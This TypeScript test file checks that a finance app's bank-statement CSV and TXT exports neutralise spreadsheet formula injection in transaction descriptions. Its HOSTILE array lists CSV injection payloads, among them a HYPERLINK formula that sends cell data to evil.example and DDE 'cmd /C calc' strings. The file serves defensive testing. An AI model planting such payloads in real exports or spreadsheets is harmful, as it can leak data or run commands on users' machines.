import { parse as parseCsv } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { ANA, OWN } from './finance-callers'
import { startTestServer, type TestServer } from './harness'

// Formula injection: a bank description or a taker's name (which reaches descriptions through the
// Cora statements) that starts with `=`, `+`, `-`, `@`, a tab or a carriage return must reach the
// exports as text, never as a live formula (OWASP "CSV Injection": such cells get a leading `'`).

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1;"Clique")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
]

let server: TestServer
let accountId: string
beforeAll(async () => {
  server = await startTestServer()
  // A statement whose payers chose hostile names (the memo is what the payer typed).
  const entries = HOSTILE.slice(0, 4)
    .map(
      (memo, i) =>
        `<STMTTRN><TRNTYPE>CREDIT<DTPOSTED>2026101${i}<TRNAMT>${10 + i}.00<FITID>HOSTILE${i}<MEMO>${memo}</STMTTRN>`,
    )
    .join('\n')
  const ofx = `OFXHEADER:100
DATA:OFXSGML
VERSION:102
CHARSET:1252

<OFX><BANKMSGSRSV1><STMTTRNRS><STMTRS><CURDEF>BRL
<BANKACCTFROM><BANKID>077<BRANCHID>0001<ACCTID>555444-3<ACCTTYPE>CHECKING</BANKACCTFROM>
<BANKTRANLIST><DTSTART>20261001<DTEND>20261031
${entries}
</BANKTRANLIST></STMTRS></STMTTRNRS></BANKMSGSRSV1></OFX>
`
  const form = new FormData()
  form.append('file', new Blob([Buffer.from(ofx, 'latin1')]), 'extrato.ofx')
  const res = await server.call('POST', `/bank-statements/ofx/upload?${OWN}`, {
    as: ANA,
    raw: form,
  })
  expect(res.status, res.text).toBe(201)
  accountId = res.body.data.account.id
  // Tab and carriage return do not survive an OFX (values are trimmed): they reach descriptions
  // through taker names in the Cora statements. Two such transactions, as the generator writes them.
  const [first] = server.store.data.bankTransactions.filter((t) => t.accountId === accountId)
  server.store.write(() =>
    server.store.bankTransactions.insertMany(
      HOSTILE.slice(4).map((description, i) => ({
        ...first!,
        id: `txn-hostile-${i}`,
        fitId: `HOSTILE-TAKER-${i}`,
        date: '2026-10-20',
        description,
      })),
    ),
  )
})
afterAll(() => server.close())

const exportOf = (type: 'csv' | 'txt') =>
  server.call(
    'GET',
    `/bank-statements/accounts/${accountId}/exports/${type}?${OWN}&from=2026-10-01&to=2026-10-31`,
    { as: ANA },
  )

/** Whether a spreadsheet would take a cell for a formula (its first character). */
const live = (cell: string) => /^[=+\-@\t\r]/.test(cell)

describe('bank statement exports', () => {
  it('csv: hostile descriptions are text cells; amounts stay numbers', async () => {
    const res = await exportOf('csv')
    expect(res.status).toBe(200)
    const rows = parseCsv(res.text.replace(/^\uFEFF/, ''), {
      delimiter: ';',
      columns: true,
      relax_quotes: false,
    }) as Record<string, string>[]
    expect(rows).toHaveLength(HOSTILE.length)
    for (const row of rows)
      for (const cell of Object.values(row)) {
        if (cell === row['Valor (R$)']) continue
        expect(live(cell), JSON.stringify(cell)).toBe(false)
      }
    const descriptions = rows.map((row) => row['Descrição'])
    for (const hostile of HOSTILE) expect(descriptions).toContain(`'${hostile}`)
    // Money out stays a negative number, not text.
    expect(rows.every((row) => /^-?\d+,\d{2}$/.test(row['Valor (R$)']!))).toBe(true)
  })

  it('txt: no history starts like a formula either', async () => {
    const res = await exportOf('txt')
    expect(res.status).toBe(200)
    const lines = res.text.split('\r\n').filter(Boolean)
    expect(lines).toHaveLength(HOSTILE.length)
    for (const line of lines) {
      const fields = line.split('|')
      expect(fields).toHaveLength(6)
      for (const field of fields.slice(4)) expect(live(field), line).toBe(false)
    }
    // '-2+3…' keeps its minus (the layout's alphabet has it), after the apostrophe.
    expect(lines.some((line) => line.includes("|'-23CMD /C CALCA0|"))).toBe(true)
  })
})
